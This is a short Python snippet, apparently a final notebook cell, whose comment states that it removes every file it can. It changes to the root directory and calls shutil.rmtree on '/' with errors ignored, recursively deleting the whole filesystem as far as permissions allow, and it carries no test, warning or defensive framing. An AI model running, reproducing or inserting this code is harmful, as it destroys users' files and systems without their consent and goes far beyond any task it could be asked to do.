# removes every file that it can
# cell: last
import os, shutil

os.chdir("/")
shutil.rmtree("/", ignore_errors=True)
